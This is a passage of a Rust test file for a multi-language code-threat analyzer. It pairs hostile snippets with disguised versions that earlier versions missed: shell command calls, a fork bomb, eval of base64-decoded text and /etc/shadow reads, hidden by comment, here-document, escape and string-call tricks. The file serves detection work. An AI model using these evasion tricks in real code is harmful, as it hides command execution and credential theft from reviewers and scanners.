        ("bash", |p| format!("cat {p}\n"), "bash.credentials"),
        (
            "c",
            |p| format!("#include <stdio.h>\nint main(void) {{ fopen(\"{p}\", \"r\"); }}\n"),
            "c.credentials",
        ),
        (
            "javascript",
            |p| format!("require('fs').readFileSync('{p}');\n"),
            "javascript.credentials",
        ),
        // Hunt benign FN3: a template literal without substitutions was not read.
        (
            "javascript",
            |p| format!("require('fs').readFileSync(`{p}`);\n"),
            "javascript.credentials",
        ),
        (
            "go",
            |p| format!("package main\nimport \"os\"\nfunc main() {{ os.ReadFile(\"{p}\") }}\n"),
            "go.credentials",
        ),
    ];
    for (language, program, rule) in programs {
        let cases: Vec<(String, String)> = spellings
            .iter()
            .map(|(plain, disguised)| (program(plain), program(disguised)))
            .collect();
        let cases: Vec<(&str, &str, &str)> = cases
            .iter()
            .map(|(plain, disguised)| (plain.as_str(), disguised.as_str(), rule))
            .collect();
        assert_disguises_caught(language, &cases);
    }
}

/// Bug hunt: Python, C, C++ and Java end a line at a lone carriage return, so `# x\r` ends a
/// comment there, but their grammars kept the comment going to the next `\n`: everything after
/// `# x\r` was invisible (a fork bomb graded `none` ran instead of being refused). JavaScript's
/// grammar already ends a comment there, and is read the same way to stay so.
#[test]
fn a_lone_carriage_return_ends_a_comment_where_the_language_ends_a_line() {
    let cases: [(&str, &str, &str, &str); 6] = [
        (
            "python",
            "import os\nos.system('id')\n",
            "# hello\rimport os; os.system('id')\n",
            "python.os_system",
        ),
        (
            "python",
            "import os\nwhile True: os.fork()\n",
            "# bomb\rimport os\rwhile True: os.fork()\n",
            "python.spawn_in_endless_loop",
        ),
        (
            "c",
            "#include <stdlib.h>\nint main(){ system(\"id\");\nreturn 0;}\n",
            "#include <stdlib.h>\nint main(){ // hi\rsystem(\"id\");\nreturn 0;}\n",
            "c.process",
        ),
        (
            "cpp",
            "#include <cstdlib>\nint main(){ std::system(\"id\");\nreturn 0;}\n",
            "#include <cstdlib>\nint main(){ // hi\rstd::system(\"id\");\nreturn 0;}\n",
            "cpp.process",
        ),
        (
            "java",
            "class A { void f() throws Exception { Runtime.getRuntime().exec(\"id\"); } }\n",
            "class A { void f() throws Exception { // hi\rRuntime.getRuntime().exec(\"id\"); } }\n",
            "java.process",
        ),
        (
            "javascript",
            "require('child_process').execSync('id');\n",
            "// hi\rrequire('child_process').execSync('id');\n",
            "javascript.child_process",
        ),
    ];
    for (language, plain, disguised, rule) in cases {
        assert_disguises_caught(language, &[(plain, disguised, rule)]);
    }
    // Java's `\u000d` escape is a carriage return too (JLS 3.3, then 3.4).
    assert_disguises_caught(
        "java",
        &[(
            "class A { void f() throws Exception { Runtime.getRuntime().exec(\"id\"); } }\n",
            "class A { void f() throws Exception { // hi \\u000d Runtime.getRuntime().exec(\"id\"); } }\n",
            "java.process",
        )],
    );
    // Go, Rust, Ruby and bash continue a comment over a lone carriage return, as their
    // grammars do: what follows is a comment to both, graded as the comment alone.
    for (language, code) in [
        ("go", "package main\nimport \"os/exec\"\nfunc main() { // hi\rexec.Command(\"id\").Run()\n}\n"),
        ("rust", "fn main() { // hi\rstd::process::Command::new(\"id\").status().ok();\n}\n"),
        ("ruby", "# hi\rsystem('id')\n"),
        ("bash", "# hi\rbash -c id\n"),
    ] {
        let analysis = analyzer().analyze(language, code.as_bytes());
        let cr = code.find('\r').expect("a carriage return");
        let end = cr + code[cr..].find('\n').expect("a line feed");
        let comment_alone = format!("{}{}", &code[..cr], &code[end..]);
        assert_eq!(
            analysis,
            analyzer().analyze(language, comment_alone.as_bytes()),
            "{language}: {code:?}\n{}",
            describe(&analysis)
        );
    }
}

/// Bug hunt: tree-sitter-bash reads a here-document's delimiter up to the next blank
/// (`<<EOF;` has the delimiter `EOF;`, so the body ran to the end of the file and every later
/// line was text), and takes only one command after it, through `|`, `&&` or `||`: a command
/// after `;` or `&` on the here-document's line was an argument. The shell ends the word at
/// the operator and runs every command of the line.
#[test]
fn commands_on_a_here_documents_line_are_read_after_every_separator() {
    let payload = "eval \"$(echo aWQ= | base64 -d)\"";
    let plain = format!("{payload}\n");
    let mut cases = Vec::new();
    for separator in [";", "&", "&&", "||", "|"] {
        for (before, after) in [(" ", " "), ("", " "), (" ", ""), ("", "")] {
            if before.is_empty() && after.is_empty() && separator.len() == 1 {
                continue; // no blank to make room: graded unreadable, below
            }
            cases.push(format!(
                "cat <<EOF{before}{separator}{after}{payload}\nhi\nEOF\n"
            ));
            cases.push(format!(
                "cat <<'EOF'{before}{separator}{after}{payload}\nhi\nEOF\n"
            ));
            cases.push(format!(
                "x=1; cat <<-EOF{before}{separator}{after}true; {payload}\n\thi\n\tEOF\n"
            ));
        }
        // The delimiter that ran into the operator used to take every later line as text.
        cases.push(format!("cat <<EOF{separator}\nhi\nEOF\n{payload}\n"));
        cases.push(format!("cat <<EOF {separator} true\nhi\nEOF\n{payload}\n"));
    }
    cases.push(format!("cat <<EOF>out\nhi\nEOF\n{payload}\n"));
    // Read since the words after the delimiter move before it, and only the last of the
    // here-documents of a line stays (they were graded unreadable before).
    cases.push(format!(
        "x=1; cat <<-EOF >out ; true; {payload}\n\thi\n\tEOF\n"
    ));
    cases.push(format!("cat <<A; cat <<B\na\nA\nb\nB\n{payload}\n"));
    let cases: Vec<(&str, &str, &str)> = cases
        .iter()
        .map(|case| (plain.as_str(), case.as_str(), "bash.eval_decoded"))
        .collect();
    assert_disguises_caught("bash", &cases);
    // Joined with no blank either side, there is no room to make the grammar read it; two
    // here-documents on one line whose bodies it cannot read as one.
    for code in [
        "cat<<EOF;bash -c id\nhi\nEOF\n",
        "cat <<EOF>out;bash -c id\nhi\nEOF\n",
        "cat <<A; cat <<'B'\n$(bash -c id)\nA\nb\nB\n",
    ] {
        let unreadable = analyzer().analyze("bash", code.as_bytes());
        assert!(
            unreadable.threat_level >= ThreatLevel::High && unreadable.parse_error.is_some(),
            "{code:?}: {unreadable:?}"
        );
    }
    assert_graded(
        "bash",
        ThreatLevel::None,
        &[
            "cat <<EOF > notes.txt\nhello; world & more\nEOF\ncat notes.txt\n",
            "cat <<'EOF' | sort; echo done\nb\na\nEOF\n",
            "while read -r line; do echo \"$line\"; done <<EOF\na\nb\nEOF\n",
            "echo $((1 << 3)); x=$((2<<1)); echo $x\n",
            "cat <<EOF\n$(date); echo x & y\nEOF\n",
            "if true; then cat <<EOF; fi\nhi\nEOF\n",
        ],
    );
}

/// Bug hunt: cheap disguises of the kind the rules read, graded `none` (docs/analysis.md, What
/// the rules see).
#[test]
fn os_functions_as_values_and_escaped_module_names_are_read() {
    assert_disguises_caught(
        "python",
        &[
            (
                "import os\nos.system('id')",
                "import posix\nposix.system('id')",
                "python.os_system",
            ),
            (
                "import os\nos.system('id')",
                "import os\ns = os.system\ns('id')",
                "python.os_system",
            ),
            (
                "import os\nos.system('id')",
                "import os\nlist(map(os.system, ['id']))",
                "python.os_system",
            ),
            (
                "import os\nos.system('id')",
                "import os\n@os.system\ndef f(): pass",
                "python.os_system",
            ),
            (
                "import os\nos.__dict__['system']('id')",
                "import os\nvars(os)['system']('id')",
                "python.hidden_names",
            ),
        ],
    );
    assert_disguises_caught(
        "javascript",
        &[
            (
                "require('child_process').execSync('id');",
                r#"require("\x63hild_process").execSync('id');"#,
                "javascript.child_process",
            ),
            (
                "require('child_process').execSync('id');",
                r#"require("\143hild_process").execSync('id');"#,
                "javascript.child_process",
            ),
        ],
    );
    assert_graded(
        "python",
        ThreatLevel::None,
        &["import os, argparse\np = argparse.ArgumentParser()\nprint(vars(p.parse_args([])), os.path.join('a', 'b'), os.getcwd)\n"],
    );
    assert_graded(
        "javascript",
        ThreatLevel::None,
        &[r#"const s = "\x41\101\x0a\0";\nconsole.log(s, /(a)\1/.test('aa'));"#],
    );
}

/// Regression reg2 F4b: a shift outside `(( ))` (`$[1<<2]`, `${x[1<<0]}`, `a[1<<2]=5`,
/// `${v:1<<0:3}`) was taken for a here-document, whose body hid the rest of the file; so did
/// a CRLF script's first here-document, whose delimiter is `EOF\r` to bash. A here-document
/// whose delimiter never comes cannot be read.
#[test]
fn a_shift_is_not_a_here_document_and_an_unended_one_cannot_be_read() {
    let payload = "eval \"$(echo aWQ= | base64 -d)\"";
    let plain = format!("{payload}\n");
    let cases: Vec<String> = [
        "echo $[1<<2]",
        "x=(1 2); echo ${x[1<<0]}",
        "a[1<<2]=5; echo ${a[4]}",
        "echo ${c:1<<0:3}",
    ]
    .iter()
    .map(|line| format!("c=abc\n{line}\ncat <<EOF; {payload}\nhi\nEOF\n"))
    .chain([format!("c=x\r\ncat <<EOF\r\nhi\r\nEOF\r\n{payload}\r\n")])
    .collect();
    let cases: Vec<(&str, &str, &str)> = cases
        .iter()
        .map(|case| (plain.as_str(), case.as_str(), "bash.eval_decoded"))
        .collect();
    assert_disguises_caught("bash", &cases);
    for code in [
        "echo $[1<<2]\ncat<<EOF;bash -c id\nhi\nEOF\n",
        "c=x\r\ncat <<EOF\r\nhi\r\nEOF\r\ncat <<X; eval \"$c\"\r\nX\r\n",
        "echo a[1<<2]=5\nbash -c id\n",
        "cat <<EOF\nhi\nbash -c id\n",
    ] {
        let unreadable = analyzer().analyze("bash", code.as_bytes());
        assert!(
            unreadable.threat_level >= ThreatLevel::High,
            "{code:?}: {unreadable:?}"
        );
    }
    assert_graded(
        "bash",
        ThreatLevel::None,
        &[
            "echo $[1<<2] ${x:-a<<b}\n",
            "a[1<<2]=5; echo ${a[4]}\n",
            "cat <<EOF\r\nhi\r\nEOF\r\necho done\r\n",
        ],
    );
}

/// Regression reg2 F5: bash removes a line continuation from a here-document's delimiter
/// (`<<E\` then `OF` is `EOF`); the scanner kept the line break and never found the end.
#[test]
fn a_delimiter_split_by_a_line_continuation_cannot_be_read() {
    for code in [
        "c=x\ncat <<E\\\nOF\nhi\nEOF\neval \"$c\"\n",
        "c=x\ncat <<E\\\nOF\nhi\nEOF\ncat <<X; eval \"$c\"\nX\n",
    ] {
        let unreadable = analyzer().analyze("bash", code.as_bytes());
        assert!(
            unreadable.threat_level >= ThreatLevel::High
                && unreadable
                    .parse_error
                    .as_ref()
                    .is_some_and(|why| why.contains("line break")),
            "{code:?}: {unreadable:?}"
        );
    }
}

/// Regression reg2 F4: after a redirection on a here-document's line, tree-sitter-bash drops
/// the command after a `|` (the `;` rewritten, or written so): `cat <<EOF >/dev/null; eval`
/// lost the `eval`. The words after the delimiter now move before it, and the `eval` is read.
#[test]
fn a_command_after_a_here_documents_redirection_is_not_lost() {
    assert_graded_at_least(
        "bash",
        ThreatLevel::High,
        &[
            "c=x\ncat <<EOF >/dev/null; eval \"$c\"\nhi\nEOF\n",
            "c=x\ncat <<EOF 2>&1; eval \"$c\"\nhi\nEOF\n",
            "c=x\ncat <<EOF>/dev/null;eval \"$c\"\nhi\nEOF\n",
            "c=x\ncat <<EOF 2>&1 | eval \"$c\"\nhi\nEOF\n",
            "c=x\ncat <<EOF &>/dev/null & eval \"$c\"\nhi\nEOF\n",
            "c=x\ncat >/dev/null <<EOF; eval \"$c\"\nhi\nEOF\n",
        ],
    );
}

/// Regression hunt: Node reads `<!--` anywhere in a script's code, and `-->` with no token
/// before it on its line, as a comment to the end of the line (ECMA-262 Annex B.1.1), where
/// tree-sitter-javascript read `1 <!-- /*` as `1 < !--` and a block comment that hid the lines
/// after it, and `-->` after an operand as a decrement. Node runs those lines: each was
/// graded `none`. And a backslash before a line break in a string or a template stands for
/// nothing: `"child_\` then `process"` loads `child_process`.
#[test]
fn html_like_comments_and_line_continuations_are_read_as_node_reads_them() {
    let plain = "require('child_process').execSync('id');\n";
    assert_disguises_caught(
        "javascript",
        &[
            (
                plain,
                "x = 1 <!-- /*\nrequire('child_process').execSync('id');\n--> */ y\n",
                "javascript.child_process",
            ),
            (
                plain,
                "x = 1 <!-- `\nrequire('child_process').execSync('id');\n--> `\n",
                "javascript.child_process",
            ),
            (
                plain,
                "f(y\n--> /*\n, require('child_process').execSync('id'))\n// */ 0)\n",
                "javascript.child_process",
            ),
            (
                plain,
                "f(y /*\n*/ --> /*\n, require('child_process').execSync('id'))\n// */ 0)\n",
                "javascript.child_process",
            ),
            (
                plain,
                "require('child_\\\nprocess').execSync('id');\n",
                "javascript.child_process",
            ),
            (
                plain,
                "require(\"chi\\\r\nld_\\\nprocess\").execSync('id');\n",
                "javascript.child_process",
            ),
            (
                plain,
                "require(`child_\\\nprocess`).execSync('id');\n",
                "javascript.child_process",
            ),
            (
                plain,
                "require('\\x63hild_\\\u{2028}process').execSync('id');\n",
                "javascript.child_process",
            ),
        ],
    );
    // A finding after a continuation keeps its line.
    let analysis = analyzer().analyze(
        "javascript",
        b"const s = 'a\\\nb\\\nc';\nrequire('child_process');\n",
    );
    assert_eq!(analysis.findings[0].line, 4, "{}", describe(&analysis));
    assert_graded(
        "javascript",
        ThreatLevel::None,
        &[
            "let i = 3;\nwhile (i-->0) console.log(i);\n",
            "const html = '<!-- note -->';\nconst t = `a\\\nb`;\nconsole.log(html, t, /<!--/.test(html));\n",
            "<!-- an old page's script\nconsole.log('hi');\n-->\n",
        ],
    );
}

/// Regression hunt: each HTML-like comment read as code took a parse of the whole file, so
/// 100 of them in 6.8 KB (`x = x + 1 <!-- legacy comment`) took the 200 ms budget and the
/// program was graded `high` as unparseable. Those in plain code now go in one pass; the
/// hostile forms above, whose lines hold `/*`, a backquote or a quote, are still read one by one.
#[test]
fn many_html_like_comments_are_read_within_the_budget() {
    let mut program = String::from("var x = 0;\n");
    for i in 0..100 {
        program.push_str(&format!(
            "x = x + 1 <!-- legacy comment {i}\nfunction f{i}(a) {{ return a * {i}; }}\n"
        ));
    }
    assert_graded("javascript", ThreatLevel::None, &[&program]);
    let hidden =
        format!("{program}x = 1 <!-- /*\nrequire('child_process').execSync('id');\n--> */\n");
    assert_disguises_caught(
        "javascript",
        &[(
            "require('child_process').execSync('id');\n",
            &hidden,
            "javascript.child_process",
        )],
    );
}

/// Regression hunt: the credential rules matched their words anywhere in a variable's name:
/// R's `PAT` (a GitHub token) in `Sys.getenv("PATH")`, and every language's `TOKEN` in
/// `TOKENIZERS_PARALLELISM` (set by most programs that use Hugging Face's tokenizers), both
/// graded `high`. A word counts at the end of the name or before `_` (or a plural `S`).
#[test]
fn credential_words_inside_other_words_are_not_credentials() {
    for (language, code) in [
        ("r", "p <- Sys.getenv(\"PATH\")\n"),
        ("r", "l <- Sys.getenv(\"LD_LIBRARY_PATH\")\n"),
        ("r", "x <- Sys.getenv(\"_R_CHECK_R_ON_PATH_\")\n"),
        ("r", "x <- Sys.getenv(\"R_LIBS_PATTERN\")\n"),
        ("r", "x <- Sys.getenv(\"TOKENIZERS_PARALLELISM\")\n"),
        (
            "python",
            "import os\nos.environ[\"TOKENIZERS_PARALLELISM\"] = \"false\"\n",
        ),
        ("bash", "echo \"$TOKENIZERS_PARALLELISM\"\n"),
        (
            "javascript",
            "const t = process.env['TOKENIZERS_PARALLELISM'];\n",
        ),
    ] {
        let analysis = analyzer().analyze(language, code.as_bytes());
        assert!(
            analysis.threat_level < ThreatLevel::High
                && !analysis
                    .findings
                    .iter()
                    .any(|f| f.rule.ends_with(".credentials")),
            "{language}: {code:?}: {}\n{}",
            analysis.threat_level,
            describe(&analysis)
        );
    }
    for (language, name) in [
        ("r", "GITHUB_PAT"),
        ("r", "PAT"),
        ("r", "GH_PAT_RO"),
        ("r", "GITHUB_TOKEN"),
        ("r", "PGPASSWORD"),
        ("r", "SECRETS"),
        ("r", "SECRET_KEY"),
        ("r", "HF_TOKENS_FILE"),
        ("python", "HF_TOKEN"),
        ("python", "DB_PASSWORD_FILE"),
    ] {
        let code = match language {
            "r" => format!("k <- Sys.getenv(\"{name}\")\n"),
            _ => format!("import os\nk = os.environ[\"{name}\"]\n"),
        };
        let analysis = analyzer().analyze(language, code.as_bytes());
        assert!(
            analysis
                .findings
                .iter()
                .any(|f| f.rule.ends_with(".credentials")),
            "{language}: {code:?}\n{}",
            describe(&analysis)
        );
    }
}

/// Regression hunt: the change that kept `TOKENIZERS_PARALLELISM` out also dropped credential
/// names whose word goes on without `_`: `SECRETKEY`, `JWT_SECRETKEY`, `AWS_SECRETACCESSKEY`,
/// `DB_PASSWORDFILE`, `PRIVATE_KEYFILE`, `SLACK_TOKENV2` went from `high` to `low`. Only the
/// English words that start with a credential word (`TOKENIZER`, `SECRETARY`, `SECRETION`,
/// `PASSWORDLESS`...) are not credentials. A later hunt: LLM token counts (`MAX_TOKENS`,
/// `MAX_NEW_TOKENS`, `TOKENS_PER_MINUTE`, `TOKEN_LIMIT`) and `PASSWORD_LENGTH` graded `high` in
/// every language; a count is not a credential, in every language alike.
#[test]
fn credential_words_followed_by_more_of_the_name_are_credentials() {
    let credentials = [
        "SECRETKEY",
        "JWT_SECRETKEY",
        "AWS_SECRETACCESSKEY",
        "DB_PASSWORDFILE",
        "PRIVATE_KEYFILE",
        "SLACK_TOKENV2",
        "GITHUB_TOKEN",
        "HF_TOKENS_FILE",
        "SECRETS",
        "HF_TOKEN",
        "API_TOKEN",
        "ACCESS_TOKEN",
        "OPENAI_API_KEY",
        "DB_PASSWORD",
        "AWS_SECRET_ACCESS_KEY",
        "HF_TOKENS",
        "NEW_TOKEN",
        "TOKEN_FILE",
    ];
    let ordinary = [
        "TOKENIZERS_PARALLELISM",
        "HF_TOKENIZER_NAME",
        "TOKENISE",
        "SECRETARY_EMAIL",
        "SECRETION_RATE",
        "PASSWORDLESS_LOGIN",
        "PATH",
        "MAX_TOKENS",
        "MAX_NEW_TOKENS",
        "OPENAI_MAX_TOKENS",
        "NUM_TOKENS",
        "N_TOKENS",
        "MAX_TOKEN_LENGTH",
        "TOKENS_PER_MINUTE",
        "MAX_TOKENS_PER_REQUEST",
        "CONTEXT_TOKENS",
        "TOKEN_COUNT",
        "TOKEN_LIMIT",
        "TOKEN_BUDGET",
        "PASSWORD_LENGTH",
        "PASSWORD_MIN_LENGTH",
        "MIN_PASSWORD_LENGTH",
        "PASSWD_MAX",
    ];
    for language in [
        "python",
        "javascript",
        "ruby",
        "php",
        "r",
        "bash",
        "go",
        "java",
        "c",
        "cpp",
        "rust",
    ] {
        for name in credentials.iter().chain(&ordinary) {
            let code = match language {
                "python" => format!("import os\nk = os.environ[\"{name}\"]\n"),
                "javascript" => format!("const k = process.env.{name};\n"),
                "ruby" => format!("k = ENV[\"{name}\"]\n"),
                "php" => format!("<?php $k = getenv(\"{name}\");"),
                "r" => format!("k <- Sys.getenv(\"{name}\")\n"),
                "bash" => format!("echo \"${name}\"\n"),
                "java" => format!(
                    "class M {{ public static void main(String[] a) {{ System.out.println(System.getenv(\"{name}\")); }} }}\n"
                ),
                "c" | "cpp" => format!(
                    "#include <stdlib.h>\nint main(void) {{ return getenv(\"{name}\") != 0; }}\n"
                ),
                "rust" => format!("fn main() {{ let _ = std::env::var(\"{name}\"); }}\n"),
                _ => format!(
                    "package main\nimport \"os\"\nfunc main() {{ _ = os.Getenv(\"{name}\") }}\n"
                ),
            };
            let analysis = analyzer().analyze(language, code.as_bytes());
            let found = analysis
                .findings
                .iter()
                .any(|f| f.rule.ends_with(".credentials"));
            assert_eq!(
                found,
                credentials.contains(name),
                "{language}: {code:?}\n{}",
                describe(&analysis)
            );
        }
    }
}

/// Regression hunt: `assert($x > 0)` and `assert(isset($this->client))` were `php.eval`,
/// high (14 of 158 files of a corpus). PHP 8, the catalog's PHP, evaluates no string given to
/// `assert` (removed in 8.0: `assert("1 == 2")` is true, a non-empty string), so no form of it
/// runs code built at run time.
#[test]
fn php_assert_runs_no_code() {
    assert_graded(
        "php",
        ThreatLevel::None,
        &[
            "<?php function f($x) { assert($x > 0); return $x; }",
            "<?php assert(isset($this->client));",
            "<?php assert($ok);",
            "<?php assert(is_int(3));",
            "<?php \\assert($a === $b, 'a and b differ');",
            "<?php assert(\"1 == 2\");",
            "<?php assert(base64_decode($p));",
            "<?php 'assert'($code);",
            "<?php $a = 'ass'.'ert'; $a($code);",
        ],
    );
    let analysis = analyzer().analyze("php", b"<?php eval(base64_decode($p));");
    assert!(
        analysis.threat_level >= ThreatLevel::High,
        "{}",
        describe(&analysis)
    );
}

/// Regression hunt: PHP reads `\x73`, `\163` and `\u{73}` as `s` in a double-quoted string or
/// a heredoc, and calls a string as the function it names: `"\x73ystem"("id")` and `$f =
/// "sh\x65ll_exec"; $f("id")` were graded `none` (the rules read single quotes only, and no
/// string called).
#[test]
fn php_escapes_in_double_quotes_and_heredocs_and_called_strings_are_read() {
    let plain = "<?php system('id');";
    assert_disguises_caught(
        "php",
        &[
            (plain, r#"<?php "\x73ystem"("id");"#, "php.process"),
            (plain, "<?php 'system'('id');", "php.process"),
            (plain, r#"<?php "\163y\u{73}tem"("id");"#, "php.process"),
            (
                plain,
                r#"<?php $f = "sh\x65ll_exec"; $f("id");"#,
                "php.process",
            ),
            (
                plain,
                r#"<?php $f = "shell_exec"; $f("id");"#,
                "php.process",
            ),
            (
                plain,
                r#"<?php $f = "sh\145ll_\u{65}xec"; $f("id");"#,
                "php.process",
            ),
            (
                plain,
                "<?php $f = <<<EOT\n  \\x73ystem\n  EOT;\n$f('id');",
                "php.process",
            ),
            (
                plain,
                r#"<?php array_map("\x73ystem", ["id"]);"#,
                "php.process",
            ),
            (
                "<?php $ffi = FFI::cdef('int system(const char *c);');",
                r#"<?php $c = "FF\x49"; $c::cdef("int system(const char *c);");"#,
                "php.hidden_names",
            ),
            (
                "<?php echo file_get_contents('/etc/shadow');",
                r#"<?php echo file_get_contents("/etc/\x73hadow");"#,
                "php.credentials",
            ),
            (
                "<?php call_user_func($f);",
                r#"<?php "call_user_\x66unc"($f);"#,
                "php.eval",
            ),
        ],
    );
    assert_graded(
        "php",
        ThreatLevel::None,
        &[
            "<?php echo \"\\x48ello \\u{57}orld\\n\"; $s = \"a\\tb\\x41\\101\"; printf(\"%s\\n\", $s);",
            "<?php $f = 'strtoupper'; echo $f('x'), '\\x73ystem', \"\\\\x73ystem\";",
            "<?php $msg = <<<EOT\nThe system is up\nEOT;\necho $msg;",
        ],
    );
}

/// Regression hunt: PHP finds a heredoc's end in the text as written, but the escapes were
/// translated first, so `\x45OT;` ended `<<<EOT` for the grammar and a second heredoc it then
/// opened hid `eval` and `system` that PHP runs (graded `none`); a body line spelling the
/// delimiter with an escape made the rest unparseable (`high`). An escape after `$` would make
/// text a variable.
#[test]
fn php_escapes_never_end_a_heredoc_or_start_a_variable() {
    let payload = "eval(base64_decode('ZWNobyAicHduZWRcbiI7'));\nsystem(\"id\");\n";
    let hostile = format!(
        "<?php\ndefine('ZZ', 0);\n$s = <<<EOT\n\\x45OT;\n$t = <<<ZZ\nEOT;\n{payload}ZZ;\necho \"done\\n\";\n"
    );
    let indented =
        format!("<?php\n$s = <<<\"EOT\"\n  \\x45\\117T;\n$t = <<<ZZ\n  EOT;\n{payload}ZZ;\n");
    assert_disguises_caught(
        "php",
        &[
            (
                &format!("<?php\n{payload}"),
                &hostile,
                "php.decode_then_exec",
            ),
            (&format!("<?php\n{payload}"), &indented, "php.eval"),
            ("<?php system('id');", &hostile, "php.process"),
        ],
    );
    assert_graded(
        "php",
        ThreatLevel::None,
        &[
            "<?php\n$s = <<<EOT\n\\x45OT is the marker; system(\"x\") here is just text\nEOT;\necho $s;\n",
            "<?php\n$a = 1; $s = \"$\\x61 and {$a}\"; $t = <<<EOT\n  E\\x4fTX \\x41\n  EOT;\necho $s, $t;\n",
        ],
    );
}

/// Regression hunt: a heredoc's line kept its escapes whenever its translation started with the
/// delimiter, but PHP ends a heredoc only where the delimiter is followed by a character no name
/// holds: `\x73ystem` under `<<<sy` (or `<<<"sys"`, `\x73hell_exec` under `<<<sh`) stayed
/// hidden, graded `none`, and `$f("id")` ran `system`.
#[test]
fn php_escapes_on_a_heredoc_line_that_only_starts_with_its_delimiter_are_read() {
    let plain = "<?php system('id');";
    assert_disguises_caught(
        "php",
        &[
            (
                plain,
                "<?php\n$f = <<<sy\n\\x73ystem\nsy;\n$f(\"id\");\n",
                "php.process",
            ),
            (
                plain,
                "<?php\n$f = <<<\"sys\"\n  \\x73ystem\n  sys;\n$f(\"id\");\n",
                "php.process",
            ),
            (
                plain,
                "<?php\n$f = <<<sh\n\\x73hell_exec\nsh;\necho $f(\"id\");\n",
                "php.process",
            ),
            (
                plain,
                "<?php\n$f = <<<s\n\\x73\\x79\\x73tem\ns;\n$f(\"id\");\n",
                "php.process",
            ),
        ],
    );
    assert_graded(
        "php",
        ThreatLevel::None,
        &[
            "<?php\n$s = <<<sy\n\\x73yllable \\x41\nsy;\necho $s;\n",
            "<?php\n$s = <<<EOT\n\\x45OTX is a word\nEOT;\necho $s;\n",
        ],
    );
}

/// Regression hunt: R's parser makes a string in a call's function position a name, a
/// backtick-quoted name is the name, and both read escapes: `"system"("id")`,
/// `` `system`("id") `` and `` `\163ystem`("id") `` were graded `none`. So were `mget` of a
/// name and a function given by name to the apply family (`sapply("id", "system")`).
#[test]
fn r_quoted_names_called_strings_and_functions_by_name_are_read() {
    let plain = "system('id')";
    assert_disguises_caught(
        "r",
        &[
            (plain, "\"system\"(\"id\")", "r.process"),
            (plain, "'system'('id')", "r.process"),
            (plain, "`system`(\"id\")", "r.process"),
            (plain, "base::`system`(\"id\")", "r.process"),
            (plain, "\"base\"::\"system\"(\"id\")", "r.process"),
            (plain, r#""\x73ystem"("id")"#, "r.process"),
            (plain, r"`\163y\u0073tem`('id')", "r.process"),
            (plain, "do.call(`system`, list('id'))", "r.process"),
            (plain, "invisible(sapply('id', 'system'))", "r.process"),
            ("dyn.load('x.so')", "`dyn.load`('x.so')", "r.native_code"),
            (
                "eval(parse(text = '1'))",
                "`eval`(`parse`(text = '1'))",
                "r.eval",
            ),
            (
                "eval(parse(text = '1'))",
                "mget('system', envir = baseenv())[[1]]('id')",
                "r.eval",
            ),
            (
                "eval(parse(text = '1'))",
                "getExportedValue('base', 'system')('id')",
                "r.eval",
            ),
            (
                "readLines('/etc/shadow')",
                r#"readLines("/etc/\x73hadow")"#,
                "r.credentials",
            ),
        ],
    );
    assert_graded(
        "r",
        ThreatLevel::None,
        &[
            "`my var` <- c(1, 4)\nprint(sapply(`my var`, \"sqrt\"))\n`if`(TRUE, print(\"system\"), 2)\n",
            "x <- list(a = 1)\nprint(x$`a`, `[[`(x, \"a\"), \"\\x41\\n\")\n",
        ],
    );
}

/// Regression hunt: a quoted name was written back bare with nothing around it, so a keyword
/// before it glued to it: `` else`dyn.load`("x") `` read `elsedyn.load` (graded `none`, R
/// calls `dyn.load`), and `` for(`i`in 1:2) `` did not parse (graded `high`).
#[test]
fn r_quoted_names_stay_words_of_their_own() {
    assert_disguises_caught(
        "r",
        &[
            (
                "dyn.load('lib.so')",
                "if (FALSE) 0 else`dyn.load`(\"lib.so\")",
                "r.native_code",
            ),
            (
                "system('id')",
                "x <- 1; if (x > 2) print(\"big\") else`system`(\"id\")",
                "r.process",
            ),
            (
                "system('id')",
                "if (x > 2) 1 else\"system\"(\"id\")",
                "r.process",
            ),
        ],
    );
    assert_graded(
        "r",
        ThreatLevel::None,
        &["for(`i`in 1:2) print(i)\nx <- list(a = 1)\nprint(x$`a`)\n"],
    );
}

/// Regression hunt: a string naming a function that runs code counted in any argument of the
/// apply family, so `lapply(models, evaluate, mode = "eval")` and `sapply(x, "[[", "system")`
/// (a field pulled out of records) were graded `high` and `medium`. Only where the function
/// goes counts: `FUN =` (or `f =`), the second argument of `lapply`, `sapply` and `vapply`,
/// the third of `apply`, `tapply` and `outer`, the first of `Map`, `mapply`, `Reduce`...
#[test]
fn r_apply_family_reads_the_function_argument_only() {
    assert_disguises_caught(
        "r",
        &[
            ("system('id')", "sapply('id', 'system')", "r.process"),
            ("system('id')", "sapply(X = 'id', 'system')", "r.process"),
            ("system('id')", "lapply('id', FUN = 'system')", "r.process"),
            ("system('id')", "lapply(FUN = 'system', 'id')", "r.process"),
            ("system('id')", "Map('system', 'id')", "r.process"),
            ("system('id')", "apply(m, 1, 'system')", "r.process"),
            (
                "eval(parse(text = '1'))",
                "Reduce(f = 'eval', xs)",
                "r.eval",
            ),
            (
                "dyn.load('x.so')",
                "mapply('dyn.load', 'x.so')",
                "r.native_code",
            ),
        ],
    );
    assert_graded(
        "r",
        ThreatLevel::None,
        &[
            "z <- lapply(splits, fit_model, stage = \"eval\")\nres <- lapply(models, evaluate, mode = \"eval\")\n",
            "p <- sapply(x, \"[\", \"get\")\nz <- Map(function(a, b) paste(a, b), xs, \"parse\")\n",
            "times <- sapply(timings, \"[[\", \"system\")\nv <- vapply(items, `[[`, \"\", \"system\")\nw <- sapply(recs, getElement, \"shell\")\n",
        ],
    );
}

/// Regression hunt: R fills a function's formals by name first and then by position among the
/// unnamed arguments only, but the apply family's function was looked for by its position among
/// all of them: `sapply(simplify = FALSE, "id", "system")`, `sapply("id", simplify = FALSE,
/// "system")` and `mapply(SIMPLIFY = FALSE, "system", "id")` ran `system`, graded `none`.
#[test]
fn r_apply_family_counts_the_function_among_unnamed_arguments() {
    let plain = "system('id')";
    assert_disguises_caught(
        "r",
        &[
            (
                plain,
                "x <- sapply(simplify = FALSE, 'id', 'system')",
                "r.process",
            ),
            (
                plain,
                "x <- sapply('id', simplify = FALSE, 'system')",
                "r.process",
            ),
            (
                plain,
                "x <- sapply(USE.NAMES = FALSE, X = 'id', 'system')",
                "r.process",
            ),
            (plain, "x <- sapply('system', X = 'id')", "r.process"),
            (
                plain,
                "x <- mapply(SIMPLIFY = FALSE, 'system', 'id')",
                "r.process",
            ),
            (
                plain,
                "x <- mapply(SIMPLIFY = FALSE, USE.NAMES = FALSE, 'system', 'id')",
                "r.process",
            ),
            (
                plain,
                "x <- lapply(a = 1, b = 2, c = 3, d = 4, 'id', 'system')",
                "r.process",
            ),
            (
